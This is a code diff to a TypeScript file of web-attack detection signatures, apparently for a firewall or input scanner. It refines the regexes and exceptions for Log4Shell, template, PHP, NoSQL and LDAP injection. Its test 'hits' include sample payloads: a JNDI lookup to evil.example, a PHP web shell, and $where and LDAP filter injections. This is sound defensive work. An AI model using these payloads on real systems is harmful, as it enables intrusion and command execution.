@@ -3,7 +3,9 @@ import { compileRegexTest } from "#rules/regex/regex.ts";
 import {
   asksAboutPhp,
   asksDatabase,
+  declaresWhere,
   hasKnownType,
+  isDirectoryFilter,
   isFilterName,
   isIdiomOfC,
   isNestedPart,
@@ -18,11 +20,15 @@ import { signaturesOf, type SignatureRow } from "./rows.ts";
 import { ARGUMENTS, COOKIES, HEADERS, INPUT, PATH, UPLOADS } from "./places.ts";
 import type { Signature } from "./signature.ts";
 
+const SCRIPTED_QUERY = String.raw`(?:^\[?\{ ?"\$(?:eq|ne|gte?|lte?|nin?|in|not|nor|and|or|all|size|type|mod|expr|elemmatch|jsonschema|text|set|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator|group)" ?:|^\[?\{ ?"[a-z_]{1,20}" ?: ?(?:\{ ?|[^{}]{1,12}\}, ?\{ ?)"\$(?:nin|not|nor|all|size|type|mod|expr|elemmatch|jsonschema|text|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator)" ?:|\[\$(?:ne|eq|gte?|lte?|nin|in|regex|exists|where|not|nor)\](?:\[[^\]]{0,20}\]){0,2} ?=|(?:^\d{1,6}|['"]) ?; ?return (?:true|1|this|''|"")|['"] ?(?:\|\||&&) ?(?:typeof |new date|object\.keys|this\b|tojson|obj\b|db\b)|\btojson(?:oneline)? ?\( ?db\.|^tojson(?:oneline)? ?\( ?this ?\)|\bdb\.(?:getcollection(?:names|infos)?|getsiblingdb|getusers|dropdatabase|runcommand|admincommand|getmongo|shutdownserver|copydatabase)\(|\beval ["'](?:return |os\.|local |redis\.)|\bredis\.p?call ?\(|(?:['"}\])]|^-?\d{1,9}) ?(?:match ?\([a-z:]{0,20}\) ?(?:detach|return|delete|set)|detach delete )|\b(?:union|return [a-z0-9_.]{1,20}(?: union)?|with [a-z0-9_ ]{1,20}) call (?:db|dbms|apoc)\.|['"{,;] ?['"]?\$(?:where|ne|nin|regex|exists|or|function|comment)['"]? ?:|\$[gl]te?['"]? ?: ?(?:['"]|null|undefined|\{)|^\[\$(?:ne|gte?|lte?|nin|regex|exists|where)\]|^function ?\( ?\) ?\{ ?(?:return |emit ?\()|['"] ?\}?\)? ?(?:or [^ ]{1,12} )?(?:detach delete |union match ?\(|match ?\([a-z:]{0,20}\) ?(?:detach|return)|return [a-z] ?(?:union|//)|call dbm?s?\.)|load csv from|['"]\}?\)?//$|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|delete|replace|bulkwrite|createindex|rename|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|(?:^\d{1,6}|['"]) ?; ?(?:while ?\(|for ?\(;;)|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do ?\{ ?[a-z]{1,12} ?= ?new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`;
+const scriptedQueries = compileRegexTest(SCRIPTED_QUERY, 10_000_000);
+
 const TEMPLATES: readonly SignatureRow[] = [
   {
     slug: "java-jndi",
     title: "Log4Shell: a lookup in a logged value",
     pattern: String.raw`\$\\?\{[^}]{0,60}(?:jndi ?:|jnd\xc4\xb1 ?:|:-?j(?:n?d?i?)?\})|\$\{(?:jndi|ctx|java|env|sys|main|marker|lower|upper|base64|k8s|docker|spring|bundle|sd|log4j|web|map|event|jvmrunargs)(?::|%3a)|\$\{(?:script:[a-z]{2,12}:|dns:[a-z0-9]|xpath:/|(?:url|file):utf|const:[a-z]{1,20}\.|(?:xml|properties):[/a-z]|base64decoder:|urldecoder:)|\$\{(?:[a-z0-9_]{0,20}:){2,4}-|\$\{:{1,4}-|\$\{[^}]{0,30}:-[a-z:/]{1,4}\}[^ ]{0,40}\$\{|\$\{[a-z:]{0,12}\$\{`,
+    unless: (text) => /^[ /]?\$\{jndi(?::[a-z]{2,6}:?)?\} ?$/.test(text),
     needs: ["${", "$\\{"],
     hits: [
       "${jndi:ldap://evil.example/a}",
@@ -48,7 +54,7 @@ const TEMPLATES: readonly SignatureRow[] = [
     slug: "template-objects",
     title: "Template injection: access to the operating system",
     // With repeated braces, each search extends only to the next one.
-    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$[a-z]{1,20}\.)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec)\b|system ?\( ?['"]|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"]child_process|__proto__|constructor ?(?:\.|\[|\( ?['"])|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app|string\.sub\.apply|lookup [a-z]{1,12} ['"]constructor|messages\.storages|process\.env|beans ?\}\})|\$\{(?:page|request|session|application)scope|\$\{(?:class|request|response|session|pagecontext|facescontext|applicationcontext)\.(?:get|class|request|session)|<%@ ?(?:page|include|taglib) |@(?:\{ ?(?:int|var|string) |system\.(?:diagnostics|io)\.)|\bsystem\.diagnostics\.process\.|\{\{ ?printf |\$\{\.(?:data_model|globals|main|vars|current_template)|\{\{ ?\[\]\.class\b|\{\{[^{}]{0,80}\[ ?['"][a-z_]{1,20}['"] ?[+~] ?['"]|\{\{[^{}]{0,60}\| ?attr ?\(|\{\{ ?handler\.settings|\| ?(?:filter|map|sort|reduce|find|usort) ?\(? ?\(?['"](?:system|passthru|exec|shell_exec|popen|phpinfo|assert|eval|file_get_contents)['"]|@php\b[^@]{0,80}(?:system|exec|passthru|eval|popen|phpinfo) ?\(|<#(?:assign|list)[^>]{0,60}(?:\.class\b|getclass|protectiondomain|\.data_model)|\$\{(?:header|headervalues|cookie|initparam|paramvalues|facescontext)[.\[]|<%=? ?require ?['"(]|\{\{#with ['"][a-z]{1,10}['"] as ?\||\{\{ ?(?:call )?\.(?:system|exec|command|run|shell) |\{\{[^{}]{0,60}(?:tostring|constructor)(?:\(\))?\.(?:constructor|call|prototype)|\broot\.process\b|\{\{ ?_context ?\||\{\{[^{}]{0,60}\.getclass\(`,
+    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$[a-z]{1,20}\.)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec)\b|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"]child_process|__proto__|constructor ?(?:\.|\[|\( ?['"])|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app|string\.sub\.apply|lookup [a-z]{1,12} ['"]constructor|messages\.storages|process\.env|beans ?\}\})|\$\{(?:page|request|session|application)scope|\$\{(?:class|request|response|session|pagecontext|facescontext|applicationcontext)\.(?:get|class|request|session)|<%@ ?(?:page|include|taglib) |@(?:\{ ?(?:int|var|string) |system\.(?:diagnostics|io)\.)|(?:\{[^{}<;]{0,120}|\{\{[^{}<]{0,120}|<[%#][^{}<]{0,120}|#set ?\([^{}<]{0,120}|\$[a-z]{1,20}\.[^{}<]{0,120})system ?\( ?['"]|\bsystem\.diagnostics\.process\.|\{\{ ?printf |\$\{\.(?:data_model|globals|main|vars|current_template)|\{\{ ?\[\]\.class\b|\{\{[^{}]{0,80}\[ ?['"][a-z_]{1,20}['"] ?[+~] ?['"]|\{\{[^{}]{0,60}\| ?attr ?\(|\{\{ ?handler\.settings|\| ?(?:filter|map|sort|reduce|find|usort) ?\(? ?\(?['"](?:system|passthru|exec|shell_exec|popen|phpinfo|assert|eval|file_get_contents)['"]|@php\b[^@]{0,80}(?:system|exec|passthru|eval|popen|phpinfo) ?\(|<#(?:assign|list)[^>]{0,60}(?:\.class\b|getclass|protectiondomain|\.data_model)|\$\{(?:header|headervalues|cookie|initparam|paramvalues|facescontext)[.\[]|<%=? ?require ?['"(]|\{\{#with ['"][a-z]{1,10}['"] as ?\||\{\{ ?(?:call )?\.(?:system|exec|command|run|shell) |\{\{[^{}]{0,60}(?:tostring|constructor)(?:\(\))?\.(?:constructor|call|prototype)|\broot\.process\b|\{\{ ?_context ?\||\{\{[^{}]{0,60}\.getclass\(`,
     needs: [
       "__",
       "['",
@@ -202,6 +208,7 @@ const PHP: readonly SignatureRow[] = [
     slug: "php-tag",
     title: "PHP injection: an opening tag",
     pattern: String.raw`<\?(?:php\b|=|[ ](?:eval|system|echo|exec|passthru|include|require|phpinfo|\$_))|<script language ?= ?["']?php|<% ?(?:eval|execute|executeglobal) ?[( ]|<%[ =]?(?:server\.createobject|response\.write ?\(? ?(?:eval|createobject))|<cf(?:execute|query|script|module|object)[ >]|<jsp:(?:scriptlet|usebean|directive)`,
+    unless: (text) => /^[ /]?<\?php(?: echo)? ?$/.test(text),
     needs: ["<?", "<script", "<%", "<cf", "<jsp:"],
     hits: ["<?php system($_GET['c']); ?>", "<?=`id`?>", "<?PHP phpinfo()", '<%eval request("x")%>', '<cfexecute name="cmd.exe">'],
     misses: ['<?xml version="1.0"?>', "what <? is", "a <?> b", "<% evaluation %>", "<%= name %>"],
@@ -392,7 +399,7 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "nosql-script",
     title: "NoSQL injection: scripts in queries",
-    pattern: String.raw`(?:^\[?\{ ?"\$(?:eq|ne|gte?|lte?|nin?|in|not|nor|and|or|all|size|type|mod|expr|elemmatch|jsonschema|text|set|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator|group)" ?:|^\[?\{ ?"[a-z_]{1,20}" ?: ?(?:\{ ?|[^{}]{1,12}\}, ?\{ ?)"\$(?:nin|not|nor|all|size|type|mod|expr|elemmatch|jsonschema|text|unset|inc|mul|push|pull|addtoset|rename|lookup|graphlookup|out|merge|unionwith|accumulator)" ?:|\[\$(?:ne|eq|gte?|lte?|nin|in|regex|exists|where|not|nor)\](?:\[[^\]]{0,20}\]){0,2} ?=|(?:^\d{1,6}|['"]) ?; ?return (?:true|1|this|''|"")|['"] ?(?:\|\||&&) ?(?:typeof |new date|object\.keys|this\b|tojson|obj\b|db\b)|\btojson(?:oneline)? ?\( ?db\.|^tojson(?:oneline)? ?\( ?this ?\)|\bdb\.(?:getcollection(?:names|infos)?|getsiblingdb|getusers|dropdatabase|runcommand|admincommand|getmongo|shutdownserver|copydatabase)\(|\beval ["'](?:return |os\.|local |redis\.)|\bredis\.p?call ?\(|(?:['"}\])]|^-?\d{1,9}) ?(?:match ?\([a-z:]{0,20}\) ?(?:detach|return|delete|set)|detach delete )|\b(?:union|return [a-z0-9_.]{1,20}(?: union)?|with [a-z0-9_ ]{1,20}) call (?:db|dbms|apoc)\.|['"{,;] ?['"]?\$(?:where|ne|nin|regex|exists|or|function|comment)['"]? ?:|\$[gl]te?['"]? ?: ?(?:['"]|null|undefined|\{)|^\[\$(?:ne|gte?|lte?|nin|regex|exists|where)\]|^function ?\( ?\) ?\{ ?(?:return |emit ?\()|['"] ?\}?\)? ?(?:or [^ ]{1,12} )?(?:detach delete |union match ?\(|match ?\([a-z:]{0,20}\) ?(?:detach|return)|return [a-z] ?(?:union|//)|call dbm?s?\.)|load csv from|['"]\}?\)?//$|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|delete|replace|bulkwrite|createindex|rename|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|(?:^\d{1,6}|['"]) ?; ?(?:while ?\(|for ?\(;;)|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do ?\{ ?[a-z]{1,12} ?= ?new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`,
+    pattern: SCRIPTED_QUERY,
     needs: [
       "$",
       "this.",
@@ -417,7 +424,7 @@ const DATA: readonly SignatureRow[] = [
       "redis.",
       " call ",
     ],
-    unless: asksDatabase,
+    unless: (text) => asksDatabase(text) || declaresWhere(text, (rest) => scriptedQueries.test(rest)),
     hits: [
       "', $where: '1 == 1",
       "';return this.password.match(/a/)//",
@@ -463,7 +470,7 @@ const DATA: readonly SignatureRow[] = [
       "(member",
       "(user",
     ],
-    unless: quotesFilter,
+    unless: (text) => quotesFilter(text) || isDirectoryFilter(text),
     hits: ["*)(uid=*))(|(uid=*", "admin)(&(password=*)", "(|(cn=*)"],
     misses: ["f(x)(y)", "(a) (b)", "smile :)("],
   },
